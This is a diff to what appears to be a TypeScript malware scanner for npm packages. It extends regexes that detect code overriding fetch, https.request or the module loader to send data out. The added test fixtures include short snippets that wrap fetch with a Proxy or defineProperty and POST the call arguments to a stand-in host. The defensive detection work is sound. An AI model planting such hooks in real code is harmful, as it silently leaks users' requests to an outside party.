@@ -7,10 +7,10 @@ import { addressNames, sendingIn } from "./_web-page.ts";
 
 /** A function that everybody calls is replaced: a request function of the platform, a method of another's class, the loader of modules. */
 const REPLACES =
-  /(?<![\w.$])(?:(?:globalThis|window|global|self)\.fetch|XMLHttpRequest\.prototype\.(?:send|open)|https?\.(?:request|get)|(?:Module|M|\w{1,30})\.(?:_load|_resolveFilename)|[\w.$]{1,80}\.prototype\.\w{1,60})[ \t]{0,3}=(?!=)[ \t\n]{0,4}(?:async[ \t]{1,3})?(?:function\b|\(|\w{1,30}[ \t]{0,3}=>)/g;
+  /(?<![\w.$])(?:(?:globalThis|window|global|self)\.fetch|XMLHttpRequest\.prototype\.(?:send|open)|https?\.(?:request|get)|\w{1,30}(?:\.(?:_load|_resolveFilename)|\[["'`](?:_load|_resolveFilename)["'`]\])|[\w.$]{1,80}\.prototype\.\w{1,60})[ \t]{0,3}=(?!=)[ \t\n]{0,4}(?:async[ \t]{1,3})?(?:function\b|\(|\w{1,30}[ \t]{0,3}=>|new[ \t]{1,3}Proxy\()|Object\.defineProperty\([ \t]{0,3}(?:globalThis|window|global|self|https?)[ \t]{0,3},[ \t]{0,3}["'`](?:fetch|request)["'`],/g;
 /** Something is sent to an address that stands in the code. */
 const SENDS =
-  /(?:\b(?:fetch|f|sendBeacon|axios(?:\.\w{2,8})?|https?\.(?:request|get)|original\w{0,10}|_?fetch\w{0,10})|\.open)[ \t]{0,3}\([^;\n]{0,40}?["'`]https?:\/\/[\w.-]{4,253}/;
+  /(?:\b(?:fetch|f|sendBeacon|axios(?:\.\w{2,8})?|https?\.(?:request|get)|original\w{0,10}|_?fetch\w{0,10})|\.open)[ \t]{0,3}\([^;\n]{0,40}?["'`]https?:\/\/[\w.-]{4,253}|\b\w{1,30}\([ \t]{0,3}["'`]https?:\/\/[\w.-]{4,253}[^\n]{0,160}\bbody\b/;
 /** The original is called with what the caller gave. */
 const GOES_ON =
   /\.(?:apply|call)\([ \t]{0,3}(?:this|\w{1,40})[ \t]{0,3},|\(\.\.\.\w{1,30}\)|\breturn[ \t]{1,3}(?:await[ \t]{1,3})?\w{1,30}\(/;
@@ -22,6 +22,9 @@ const LITERALS = [
   ".fetch",
   ".prototype.",
   "._load",
+  "'_load'",
+  '"_load"',
+  "'_resolvefilename'",
   "._resolvefilename",
   "http.request",
   "https.request",
@@ -90,6 +93,20 @@ Monitoring libraries replace the same functions and send to the address that the
         ecosystem: "npm",
         files: {
           "a.js":
+            "globalThis.fetch = new Proxy(globalThis.fetch, {\n  apply(t, s, a) {\n    t('https://example.invalid', { method: 'POST', body: JSON.stringify(a) });\n    return t(...a);\n  },\n});\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "b.js":
+            "const o = window.fetch;\nObject.defineProperty(window, 'fetch', {\n  value: function (...a) {\n    navigator.sendBeacon('https://example.invalid', a);\n    return o(...a);\n  },\n});\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
             "const U = 'https://example.invalid/c';\nconst https = require('https');\nconst o = https.request;\nhttps.request = function (...x) {\n  fetch(U, { method: 'POST', body: JSON.stringify(x) });\n  return o.apply(this, x);\n};\n",
         },
       },
@@ -129,13 +146,19 @@ function interceptionIn(file: SourceFile) {
     const replacement = body.slice(match[0].length);
     const sends = SENDS.exec(replacement)?.[0] ?? sendingIn(replacement, addressNames(file));
     if (sends === undefined || !GOES_ON.test(body)) continue;
-    const what = match[0].slice(0, match[0].indexOf("=")).trim();
-    // Kept before it was replaced: `const o = X.prototype.m`.
-    const kept = text.slice(0, match.index).search(new RegExp(`[=:(,][ \\t]{0,3}${what.replace(/[.$]/g, "\\$&")}\\b`));
-    if (kept === -1 || inComment(file, match.index)) continue;
+    const what = /^[^=(]{1,200}(?==)/.exec(match[0])?.[0].trim() ?? match[0].slice(0, 60);
+    if (!isKept(text.slice(0, match.index), match[0], what) || inComment(file, match.index)) continue;
     return { offset: match.index, what, does: `sends by ${sends.slice(0, 100)}`, share: 1 };
   }
   return undefined;
+}
+
+/** The original was kept before it was replaced (`const o = X.prototype.m`), or is handed to what replaces it. */
+function isKept(before: string, replacement: string, what: string): boolean {
+  if (/new[ \t]{1,3}Proxy\($/.test(replacement)) return true;
+  const member = /^Object\.defineProperty\(\s{0,3}(\w{1,20})\s{0,3},\s{0,3}["'`](\w{1,20})/.exec(replacement);
+  const name = member === null ? what : `${member[1]}.${member[2]}`;
+  return new RegExp(`[=:(,][ \\t]{0,3}${name.replace(/[^\w]/g, "\\$&")}(?![\\w$])`).test(before);
 }
 
 /** The loader of modules. */
